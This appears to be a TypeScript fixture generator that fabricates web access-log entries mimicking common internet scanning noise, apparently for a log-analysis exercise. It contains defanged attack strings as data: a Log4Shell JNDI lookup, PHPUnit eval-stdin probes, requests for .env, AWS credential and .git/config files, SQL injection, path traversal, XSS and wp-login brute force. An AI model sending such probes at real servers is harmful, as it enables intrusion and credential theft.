import type { Chance } from './chance.ts'
import { LENGTH, type Request } from './request.ts'

/** The daily noise of probes. What looks like a payload is filler that does nothing anywhere. */
export function probes(chance: Chance): Request[] {
  return [
    ...log4shell(chance),
    ...phpunit(chance),
    ...secrets(chance),
    ...nikto(chance),
    ...others(chance),
    ...garbage(chance),
  ]
}

function probe(at: number, source: string, target: string, agent = '-', status = 404): Request {
  return { at, source, request: `GET ${target} HTTP/1.1`, status, bytes: status === 404 ? 196 : 92, agent }
}

function log4shell(chance: Chance): Request[] {
  const lookup = '\u0024{jndi:ldap://192.0.2.250/filler}'
  return Array.from({ length: 9 }, (_, i) => ({
    ...probe(chance.below(LENGTH), `192.0.2.${10 + (i % 4)}`, '/', lookup, 200),
    referrer: i % 2 === 0 ? lookup : '-',
    bytes: 5120,
  }))
}

function phpunit(chance: Chance): Request[] {
  const roots = ['', '/laravel', '/lib', '/blog', '/app', '/www', '/api', '/admin']
  return ['192.0.2.20', '192.0.2.21', '2001:db8:bad::5'].flatMap((source) => {
    const start = chance.below(LENGTH - 60)
    return roots.map((root, i) =>
      probe(start + i, source, `${root}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`, 'Mozilla/5.0'),
    )
  })
}

function secrets(chance: Chance): Request[] {
  const files = ['/.env', '/api/.env', '/.env.production', '/.aws/credentials', '/wp-config.php.bak']
  const asked = Array.from({ length: 12 }, (_, i) => {
    const start = chance.below(LENGTH - 60)
    return files
      .slice(0, 2 + chance.below(4))
      .map((file, k) => probe(start + k, `192.0.2.${30 + i}`, file, 'python-requests/2.32.4'))
  }).flat()
  // The one that should not have been answered.
  return [...asked, probe(LENGTH - 5000, '192.0.2.33', '/.git/config', 'python-requests/2.32.4', 200)]
}

function nikto(chance: Chance): Request[] {
  const paths = [
    '/admin/',
    '/phpmyadmin/',
    '/cgi-bin/test.cgi',
    '/server-status',
    '/backup.zip',
    '/manager/html',
    '/test/',
    '/old/',
  ]
  return Array.from({ length: 160 }, (_, i) =>
    probe(
      20_000 + i,
      '192.0.2.60',
      `${chance.one(paths)}${i % 3 === 0 ? `?x=${i}` : ''}`,
      'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
    ),
  )
}

function others(chance: Chance): Request[] {
  const census = 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'
  const single: Array<[string, string, string]> = [
    ['192.0.2.70', '/', census],
    ['192.0.2.71', '/', census],
    ['192.0.2.72', '/shop?id=1%27%20UNION%20SELECT%20filler', 'sqlmap/1.9'],
    ['192.0.2.73', '/static/..%2f..%2f..%2ffiller', 'Mozilla/5.0'],
    ['192.0.2.74', '/search?q=%3Cscript%3Efiller%3C/script%3E', 'Mozilla/5.0'],
    ['192.0.2.75', '/HNAP1/', 'Mozilla/5.0 zgrab/0.x'],
  ]
  const logins = Array.from({ length: 60 }, (_, i) => ({
    ...probe(30_000 + i * 7, '192.0.2.80', '/', 'Mozilla/5.0'),
    request: 'POST /wp-login.php HTTP/1.1',
  }))
  return [...single.map(([source, target, agent]) => probe(chance.below(LENGTH), source, target, agent)), ...logins]
}

/** Other protocols on the web port. */
function garbage(chance: Chance): Request[] {
  const bytes = [
    '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03',
    '\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=filler',
    'SSH-2.0-Go',
    '-',
  ]
  return Array.from({ length: 10 }, (_, i) => ({
    at: chance.below(LENGTH),
    source: `192.0.2.${90 + (i % 6)}`,
    request: chance.one(bytes),
    status: 400,
    bytes: 226,
  }))
}
